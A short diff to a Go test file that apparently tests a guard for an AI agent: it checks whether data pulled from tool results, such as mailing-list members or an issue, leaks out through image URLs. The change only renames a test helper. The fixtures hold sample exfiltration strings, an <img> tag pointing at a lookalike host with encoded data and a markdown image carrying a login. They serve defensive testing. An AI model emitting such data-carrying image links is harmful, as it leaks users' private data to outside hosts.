@@ -23,7 +23,7 @@ func TestDataInTheAddressOfAnImageGoesToItsHost(t *testing.T) {
 		"a host that only begins like the own": {`<img src="https://img.acme.example.tyrelab.example/c.png?seg=` + coded + `">`, true},
 	} {
 		t.Run(name, func(t *testing.T) {
-			h := newHouse(t, t.TempDir(), defaults())
+			h := newRig(t, t.TempDir(), defaults())
 			h.tracker.Prompt("flow-1", prompt)
 			h.saw(call("fetch", "fetch", `{"url":"https://www.shop.example/guest"}`), page)
 			h.saw(call("mailer", "list_members", `{"list":"vip"}`), people)
@@ -47,7 +47,7 @@ func TestDataOfATrackerLeavesInTheAddressOfAnImage(t *testing.T) {
 		"the picture of the issue itself":       {"![plan](https://img.partner.example/plan.png?n=" + login + ")", false},
 	} {
 		t.Run(name, func(t *testing.T) {
-			h := newHouse(t, t.TempDir(), defaults())
+			h := newRig(t, t.TempDir(), defaults())
 			h.tracker.Prompt("flow-1", "Create a page in the wiki that compares the three offers of the ticket.")
 			h.saw(
 				call("linear", "get_issue", `{"id":"OPS-77"}`),
